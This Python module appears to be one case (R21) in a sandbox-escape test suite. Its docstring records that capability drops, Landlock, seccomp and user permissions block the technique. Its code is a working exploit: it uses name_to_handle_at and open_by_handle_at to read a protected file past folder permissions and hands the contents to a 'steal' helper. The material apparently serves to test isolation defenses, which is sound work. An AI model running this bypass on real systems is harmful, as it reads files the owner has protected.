"""Open the reference by its file handle, which ignores the modes of its parent folders.

id: R21
kind: read
stopped by: empty root folder ENOENT; own user EACCES; no capabilities EPERM; Landlock EACCES; seccomp filter EPERM
stopped by as user: the kernel reserves it for root
outcome: EPERM
without them: secret
no control as user: the kernel reserves it for root
"""

import ctypes
import os
import struct

from attacker import steal, system_call


def attack(target):
    def opened():
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
        system_call("name_to_handle_at", -100, target["reference"].encode(), handle, ctypes.byref(ctypes.c_int()), 0)
        mount = os.open(target["scratch"], os.O_RDONLY)
        return os.read(system_call("open_by_handle_at", mount, handle, os.O_RDONLY), 10_000)

    return steal(target, opened)
